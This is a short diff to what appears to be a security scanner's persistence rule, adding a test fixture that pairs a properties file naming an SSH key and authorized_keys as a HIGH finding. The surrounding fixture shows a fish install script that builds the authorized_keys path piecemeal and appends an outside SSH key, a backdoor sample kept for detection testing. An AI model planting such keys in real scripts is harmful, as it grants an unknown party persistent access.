@@ -285,6 +285,11 @@ export const s009Persistence: ScanRule = {
         level: 'HIGH',
       },
       {
+        path: 'scripts/node.properties',
+        text: 'identity=ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3f0pXo9mG2vK8bTzL4rWc1nY7sJd5eQ0aUxP6hRk ops@relay\ntrustfile=.ssh/authorized_keys\n',
+        level: 'HIGH',
+      },
+      {
         path: 'scripts/install.fish',
         text: "set -l seg ssh authorized_keys\nset -l pub 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3f0pXo9mG2vK8bTzL4rWc1nY7sJd5eQ0aUxP6hRk ops@relay'\nset -l f (string join / $HOME .$seg[1] $seg[2])\necho $pub >> $f\n",
         level: 'HIGH',
